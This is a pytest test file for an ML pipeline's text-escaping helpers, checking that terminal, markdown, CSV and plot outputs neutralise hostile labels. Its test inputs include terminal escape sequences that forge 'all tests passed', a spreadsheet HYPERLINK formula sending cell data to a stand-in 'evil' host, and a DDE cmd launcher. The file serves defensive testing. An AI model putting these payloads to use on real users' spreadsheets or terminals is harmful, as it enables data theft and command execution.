"""Text from outside at each place where people read it, and programs obey it."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest

from flows.cli.command import Outcome
from flows.cli.output import columns, table, write
from tasks.prefect_ui.pictures import confusion_picture
from tasks.prefect_ui.show import decision_page
from ts4s_core.errors import DataError, one_line
from ts4s_core.evaluation.figures.metrics import confusion_csv, per_class_csv
from ts4s_core.evaluation.gate.decision import Decision
from ts4s_core.progress import as_line
from ts4s_core.shown_text import csv_bytes, csv_cell, json_line, line, lines, markdown

ROOT = Path(__file__).resolve().parents[2]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mall tests passed\x1b[0m"
SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mall tests passed\\x1b[0m"


def obeyed(text: str) -> set[str]:
    """What a terminal could obey, by Unicode's own classes and not by the list under test; joiners and visible signs aside."""
    visible = set("\u200c\u200d\u00ad") | {chr(code) for code in (*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2)}
    categories = {"Cc", "Cs", "Zl", "Zp"}
    direction = {"RLE", "LRE", "RLO", "LRO", "PDF", "RLI", "LRI", "FSI", "PDI"}
    marks = {letter for letter in text if unicodedata.bidirectional(letter) in direction}
    return marks | {letter for letter in text if unicodedata.category(letter) in categories and letter not in visible}


def test_whatever_a_terminal_obeys_is_shown_and_shown_once() -> None:
    draw = random.Random(0)
    letters = [chr(code) for code in (*range(0x300), *range(0x2000, 0x2100), *range(0xD800, 0xD810), 0xFEFF, 0xE0041)]
    for _ in range(300):
        text = "".join(draw.choices(letters, k=40))
        assert obeyed(line(text)) == set()
        assert obeyed(lines(text)) <= {"\n", "\t"}
        assert line(line(text)) == line(text)
        assert lines(text).count("\n") == text.count("\n")
        assert json.loads(json_line(text)) == text
        assert obeyed(json_line(text)) == set()


def test_ordinary_text_of_every_script_stays_as_it_is() -> None:
    for text in (
        "é 日本 \u05d0\u05d1 \u0627\u0644 \u0915\u094d\u200d\u0937 \U0001f469\u200d\U0001f680",
        "C:\\x1b",
        "a [red]b[/red]",
    ):
        assert line(text) == lines(text) == text


def test_each_sink_of_the_terminal_shows_escapes() -> None:
    assert str(DataError(f"label {ESCAPES} has no rows")) == f"label {SHOWN} has no rows"
    assert one_line("a\nb\x9b2J") == "a b\\x9b2J"
    assert list(table({"labels": [ESCAPES, "b"], "x\ny": 1})) == [f"labels  {SHOWN}, b", "x\\ny    1"]
    assert as_line("upload", {"file": f"{ESCAPES}\nb"}) == f"upload file={SHOWN}\\nb"


def test_a_reason_forges_no_row_of_a_history() -> None:
    text = columns(("number", "why"), [("6", "fine\n7       promote @champion"), ("8", "next")])
    assert text.splitlines() == ["number  why", "6       fine\\n7       promote @champion", "8       next"]


def test_labels_go_through_the_whole_program_escaped(tmp_path: Path) -> None:
    """A refusal that quotes a label, on the real standard error."""
    (tmp_path / "rows.tsv").write_text("".join(f"{ESCAPES.replace(chr(7), '')}{n % 1}\ttext {n}\n" for n in range(40)), "utf-8")
    command = [sys.executable, "-m", "flows.cli", "prepare", "--data.source", "rows.tsv", "--spark.master", "none"]
    done = subprocess.run(
        [*command, "--data.validation_fraction", "0.3"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 2
    assert obeyed(done.stderr) <= {"\n"}


@pytest.mark.parametrize("encoding", ["iso-8859-1", "ascii", "utf-8", "cp1252"])
def test_an_output_that_is_not_utf_8_gets_all_the_same(encoding: str) -> None:
    values = {"labels": ["é", "日本", ESCAPES]}
    for as_json in (False, True):
        raw = io.BytesIO()
        stream = io.TextIOWrapper(raw, encoding=encoding, write_through=True)
        write(Outcome(values), as_json=as_json, stream=stream)
        said = raw.getvalue().decode(encoding)
        if as_json:
            assert json.loads(said) == values
        elif encoding == "utf-8":
            assert said == f"labels  é, 日本, {SHOWN}\n"
        else:
            assert "\\u65e5\\u672c" in said
            assert said.endswith(f"{SHOWN}\n")


@pytest.mark.parametrize(
    ("cell", "kept"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\uff1d1", "'\uff1d1"),
        ("-0.3", "-0.3"),
        ("+1.5e-3", "+1.5e-3"),
        (-0.3, -0.3),
        (None, None),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_text(cell: object, kept: object) -> None:
    assert csv_cell(cell) == kept
    assert next(csv.reader(io.StringIO(csv_bytes([], [[cell]]).decode().lstrip("\n")))) == ["" if kept is None else str(kept)]


def test_the_report_s_tables_keep_numbers_and_no_formulas() -> None:
    row = {"label": "=1+1", "precision": -0.3, "recall": 0.5, "f1": 0.25, "support": 4}
    assert per_class_csv({"classes": [row]}) == b"label,precision,recall,f1,support\n'=1+1,-0.3,0.5,0.25,4\n"
    assert confusion_csv.__module__ == per_class_csv.__module__


def test_markdown_shows_its_marks() -> None:
    shown = markdown("a|b\n[x](y:1) <b> `c` **d**")
    assert shown == "a\\|b\\\\n\\[x\\]\\(y\\:1\\) \\<b\\> \\`c\\` \\*\\*d\\*\\*"
    page = decision_page("Not promoted: so said A | B\n| forged | 1 |", Decision(False, "why", None, {"metric": "accuracy"}))
    assert page.splitlines()[0] == "**Not promoted\\: so said A \\| B\\\\n\\| forged \\| 1 \\|**"


def test_labels_are_no_formulas_of_a_picture() -> None:
    """matplotlib would set what stands between two dollars, and fail on what it cannot set."""
    assert confusion_picture(["$\\frac{$", "\x1b[31m"], [[1, 0], [0, 1]]).startswith(b"\x89PNG")
